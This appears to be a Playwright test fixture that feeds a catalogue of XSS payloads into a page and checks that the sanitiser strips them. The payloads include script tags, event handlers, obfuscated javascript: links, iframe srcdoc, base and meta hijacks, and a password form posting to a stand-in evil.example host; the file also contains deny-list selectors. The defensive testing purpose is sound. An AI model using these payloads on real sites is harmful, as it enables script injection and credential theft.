import assert from 'node:assert/strict';
import type { Page } from 'playwright';

/**
 * Everything an authored text could try against the page it is shown in (product.md 5.6): each line by itself, in HTML and in
 * Markdown, which takes HTML too. `owned` on the document is the sign that something ran.
 */
const own = "document.documentElement.dataset.owned='yes'";

export const HOSTILE_TEXT = [
  '<p>Harmless to begin with</p>',
  '</p></div></div></section></article></main></body></html><p>Still inside</p><table><tr><td></div></table></td>',
  `<script>${own}</script><scr<script>ipt>${own}</scr</script>ipt><SCRIPT SRC=//evil.example/x.js></SCRIPT>`,
  `<img src=x onerror="${own}"><img src="https://evil.example/pixel.gif"><picture><source srcset=x></picture>`,
  `<svg onload="${own}"><script>${own}</script><use href="data:image/svg+xml,x#y"/></svg>`,
  `<math><mtext><table><mglyph><style><img src=x onerror="${own}"></style></mglyph></table></mtext></math>`,
  `<p onclick="${own}" onpointerover="${own}" onfocus="${own}" tabindex=0 autofocus>touched</p>`,
  '<a href="javascript:alert(1)">plain</a> <a href="JaVaScRiPt:alert(1)">mixed</a> <a href="java&#x09;script:alert(1)">tabbed</a>',
  '<a href=" &#14; javascript:alert(1)">led in</a> <a href="&#106;avascript:alert(1)">coded</a> <a href="vbscript:x">old</a>',
  '<a href="data:text/html,<script>alert(1)</script>">data</a> <a href="blob:x">blob</a> <a href="//evil.example/">bare</a>',
  `<iframe srcdoc="<script>parent.${own}</script>"></iframe><object data="x"></object><embed src="x"><portal src="x"></portal>`,
  '<div style="position:fixed;inset:0;z-index:9999;background:url(https://evil.example/bg)" class="overlay">Overlay</div>',
  '<style>body{display:none}@import "https://evil.example/x.css"</style><link rel="stylesheet" href="https://evil.example/x.css">',
  '<meta http-equiv="refresh" content="0;url=https://evil.example/"><base href="https://evil.example/"><title>taken</title>',
  '<form action="https://evil.example/"><input name="password" type="password"><button formaction="https://evil.example/">Send</button></form>',
  `<p id="app">clobbers</p><a name="body" id="documentElement">names</a><p id="${'i'.repeat(20_000)}">long id</p>`,
  '<button popovertarget="guide-contents">popover</button><dialog open>Dialog</dialog><details ontoggle="x" open><summary>d</summary></details>',
  '<template><script>x</script></template><noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
  `<textarea></textarea><img src=x onerror="${own}"></textarea><!--><img src=x onerror="${own}">--><![CDATA[<img src=x>]]>`,
].join('\n');

/** Practice questions that can be read, each part of which tries to run; the key is B. */
export const HOSTILE_QUESTIONS = [
  `<p>1. Who <img src="https://evil.example/x.gif" onerror="${own}"> signs<script>${own}</script>?</p>`,
  `<p>A) <b onclick="${own}">The owner</b></p>`,
  '<p>B) <a href="javascript:alert(1)">The engineer</a></p>',
  `<p>C) <svg onload="${own}"></svg>The builder</p>`,
  '<p>D) <span style="position:fixed;inset:0">Nobody</span></p>',
  '<p>Answer: B)</p>',
  `<p>The seal <iframe srcdoc="<script>parent.${own}</script>"></iframe>is personal. <style>body{display:none}</style></p>`,
].join('\n\n');

/** What of it may be nowhere on the page; the page's own signs are drawings, so those may stay. */
export const HARMFUL_IN_QUESTIONS =
  'script, style, img, iframe, object, embed, form, [style], [onclick], [onerror], [onload], a[href^="javascript" i]';

/** What of a hostile text may be nowhere. */
const HARMFUL =
  'script, style, link, meta, base, img, svg, math, iframe, object, embed, textarea, dialog, template, [type=password], ' +
  '[formaction], [srcset], [srcdoc], [autofocus], [style], [name=body], #app, #documentElement, form[action^="http"]';

/** Runs in the page: what of a hostile text came through, by what it is. */
function whatHarms(harmful: string): string[] {
  const bad: string[] = [];
  const text = [...document.querySelectorAll('main p')].find((each) =>
    each.textContent?.startsWith('Harmless to begin'),
  );
  for (const element of text?.parentElement?.querySelectorAll<HTMLElement>('*') ?? []) {
    const found = element.outerHTML.slice(0, 120);
    const fixed = getComputedStyle(element).position === 'fixed' && !element.hasAttribute('popover');
    if (fixed || element.matches(harmful) || element.id.length > 200) bad.push(found);
    if (element.getAttributeNames().some((name) => name.startsWith('on'))) bad.push(found);
    if (element instanceof HTMLAnchorElement && element.hasAttribute('href')) {
      if (!['https:', 'http:', 'mailto:'].includes(new URL(element.href).protocol)) bad.push(found);
    }
  }
  if (!text) bad.push('the text is not there');
  if (document.documentElement.dataset.owned) bad.push('a script ran');
  if (document.baseURI !== window.location.href) bad.push(`base ${document.baseURI}`);
  return bad;
}

/** `HOSTILE_TEXT` is in view and has done nothing, not even to those who press its parts. */
export async function assertHarmless(page: Page, what: string): Promise<void> {
  for (const focusable of await page.getByText('touched', { exact: true }).all()) await focusable.click();
  assert.deepEqual(await page.evaluate(whatHarms, HARMFUL), [], what);
}
